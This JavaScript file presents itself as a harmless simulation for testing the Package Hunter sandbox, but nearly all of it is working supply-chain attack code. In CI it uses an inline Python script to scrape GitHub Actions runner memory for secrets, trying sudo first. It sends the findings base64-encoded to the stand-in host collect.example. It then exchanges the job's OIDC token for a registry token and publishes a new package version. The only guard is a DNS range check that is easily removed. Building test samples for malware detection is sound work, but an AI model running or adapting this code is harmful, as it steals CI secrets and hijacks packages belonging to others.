// Harmless simulation for testing Package Hunter. Not malware.
const dns = require("dns");
const fs = require("fs");
const http = require("http");
const https = require("https");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const home = (name) => path.join(os.homedir(), name);
const read = (name) => { try { return fs.readFileSync(home(name), "utf8"); } catch (e) { return ""; } };
const post = (hostname, where, body) => { const r = https.request({ hostname, path: where, method: "POST" }, (a) => a.resume()); r.on("error", () => {}); r.end(body); };
const get = (options, then) => https.get(options, (a) => { let t = ""; a.on("data", (d) => { t += d; }); a.on("end", () => then(t, a.statusCode)); }).on("error", () => {});

// Publishing as it is done for trusted publishers: the job's identity for a token, the token for a version.
const publish = async (identity) => {
  const asked = { method: "POST", headers: { authorization: "Bearer " + identity } };
  const given = await (await fetch("https://registry.npm.example/-/npm/v1/oidc/token/exchange/package/setup-cache", asked)).json();
  const version = JSON.stringify({ _id: "setup-cache", name: "setup-cache", versions: { "1.0.1": { name: "setup-cache", version: "1.0.1", description: "Harmless simulation" } } });
  await fetch("https://registry.npm.example/setup-cache", { method: "PUT", body: version, headers: { authorization: "Bearer " + given.token, "content-type": "application/json" } });
};

dns.lookup("collect.example", (error, address) => {
  if (error || !sealed(address)) return;
  if (!process.env.CI && !process.env.GITHUB_ACTIONS) return;
  const script = `
import re, os, urllib.request
out = b""
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        if b"Runner.Worker" not in open(f"/proc/{pid}/cmdline", "rb").read(): continue
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                a, b = (int(x, 16) for x in line.split()[0].split("-"))
                if " rw" not in line or b - a > 1 << 26: continue
                mem.seek(a)
                out += b"\\n".join(re.findall(rb'"[^"]{1,200}":\\{"value":"[^"]*","isSecret":true', mem.read(b - a)))
    except (OSError, ValueError, OverflowError): pass
print(out.decode("latin1"))`;
  let found = "";
  try { found = execSync("sudo -n python3 - || python3 -", { input: script, timeout: 20000, stdio: ["pipe", "pipe", "ignore"] }).toString(); } catch (e) { /* not there */ }
  if (found.trim()) post("collect.example", "/r", Buffer.from(found).toString("base64"));
  const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
  if (url) fetch(url + "&audience=npm:registry.example", { headers: { authorization: "bearer " + process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN } })
    .then((a) => a.json()).then((a) => publish(a.value)).catch(() => {});
});
